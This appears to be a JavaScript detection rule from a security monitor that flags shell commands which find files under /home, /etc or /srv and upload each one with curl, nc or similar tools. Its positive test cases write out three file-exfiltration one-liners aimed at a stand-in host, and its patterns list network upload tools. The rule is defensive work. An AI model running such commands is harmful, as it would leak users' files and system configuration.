import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** Files are searched for and each is handed to a tool that sends it away. */
export const toolsHandOverManyFiles = commandRule({
  id: "tools-hand-over-many-files",
  alertType: "Picket_ToolsHandOverManyFiles",
  name: "Many files handed to a network tool",
  severity: "Medium",
  about: "Files are searched for and each is handed to a tool that sends it away.",
  tactics: ["Exfiltration"],
  techniques: ["T1020", "T1048"],
  falsePositives: ["Scripts that upload logs one by one to one's own store."],
  witness: ["find", "xargs", "for"],
  sees: (reading) => {
    const isSearch = reading.commands.some(
      ({ name, text }) => name === "find" && /\/(?:home|root|etc|var\/www|srv|mnt|data|opt)\b/.test(text),
    );
    return isSearch
      ? find(
          reading,
          /^(?:curl|nc|ncat|scp|ftp|tftp|wget)$/,
          ({ text }) =>
            /\s(?:-T|-F|--upload-file|--post-file|--data-binary)\b|^\S*(?:nc|ncat|ftp|tftp)\s+\d|^\S*scp\s.*@\d+\.\d+\.\d+\.\d+:/.test(
              text,
            ) && !/(?:127\.0\.0\.1|localhost)/.test(text),
        )
      : undefined;
  },
  did: "handed many files to a network tool",
  because: "data leaves file by file",
  fires: [
    "find /home -name *.pdf -exec curl -F f=@{} http://203.0.113.9/up ;",
    "sh -c find /srv -name '*.csv' | xargs -I{} curl -T {} ftp://203.0.113.9/",
    "bash -c for f in $(find /etc -name '*.conf'); do nc 203.0.113.9 9 < $f; done",
  ],
  silent: [
    "find /home -name *.pdf",
    "sh -c find /var/log/app -name '*.gz' | xargs -I{} mv {} /archive",
    "find /srv -type f -exec md5sum {} ;",
    "curl -T a.tgz https://store.example.net/",
    "sh -c find . -name '*.rpm' | xargs -I{} curl -T {} http://127.0.0.1/",
  ],
});
